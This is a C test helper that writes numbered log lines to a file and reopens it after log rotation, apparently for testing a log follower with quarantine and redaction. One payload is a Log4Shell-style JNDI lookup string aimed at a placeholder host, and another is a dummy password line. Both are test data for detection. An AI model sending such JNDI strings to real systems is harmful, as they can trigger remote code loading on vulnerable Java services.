/* fwriter: appends numbered log lines, reopening the file after rotation (follow tests). */
/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Usage: fwriter PATH PREFIX FIRST COUNT DELAY_US [REOPEN_EVERY]
 *
 * Writes COUNT lines "PREFIXnnnnnnnn payload\n" (nnnnnnnn = FIRST, FIRST+1, ...),
 * each with one write(2) on an O_APPEND descriptor, sleeping DELAY_US
 * microseconds between lines. Every REOPEN_EVERY lines (default 25) it checks
 * whether PATH still names the file it has open; if not (rename rotation), it
 * reopens PATH with O_CREAT, so like a real application it keeps writing to the
 * renamed file for a short while. Under copytruncate the inode never changes and
 * O_APPEND continues at the new end.
 *
 * Payloads: number % 11 == 0 carries a JNDI lookup (quarantined), number % 7 == 0
 * a password assignment (redacted), the rest are plain.
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static int open_log(const char *path)
{
    int fd = open(path, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);

    if (fd < 0) {
        fprintf(stderr, "fwriter: %s: %s\n", path, strerror(errno));
        exit(2);
    }
    return fd;
}

int main(int argc, char **argv)
{
    const char *path, *prefix;
    unsigned long first, count, delay, every = 25, i;
    struct timespec ts;
    int fd;

    if (argc < 6) {
        fprintf(stderr, "usage: fwriter PATH PREFIX FIRST COUNT DELAY_US [REOPEN_EVERY]\n");
        return 2;
    }
    path = argv[1];
    prefix = argv[2];
    first = strtoul(argv[3], NULL, 10);
    count = strtoul(argv[4], NULL, 10);
    delay = strtoul(argv[5], NULL, 10);
    if (argc > 6) {
        every = strtoul(argv[6], NULL, 10);
    }
    if (every == 0) {
        every = 1;
    }
    ts.tv_sec = (time_t)(delay / 1000000);
    ts.tv_nsec = (long)(delay % 1000000) * 1000L;
    fd = open_log(path);
    for (i = first; i < first + count; i++) {
        char line[256];
        const char *payload;
        int n;
        if ((i - first) % every == every - 1) {
            struct stat a, b;
            if (stat(path, &a) != 0 || fstat(fd, &b) != 0 || a.st_ino != b.st_ino ||
                a.st_dev != b.st_dev) {
                close(fd);
                fd = open_log(path);
            }
        }
        if (i % 11 == 0) {
            payload = "GET /?q=${jndi:ldap://x.test/a} HTTP/1.1";
        }
        else if (i % 7 == 0) {
            payload = "login user=alice password=hunter2secret ok";
        }
        else {
            payload = "request served in 12ms status=200 path=/index";
        }
        n = snprintf(line, sizeof(line), "%s%08lu %s\n", prefix, i, payload);
        if (write(fd, line, (size_t)n) != n) {
            fprintf(stderr, "fwriter: %s: write: %s\n", path, strerror(errno));
            return 1;
        }
        if (delay > 0) {
            nanosleep(&ts, NULL);
        }
    }
    close(fd);
    return 0;
}
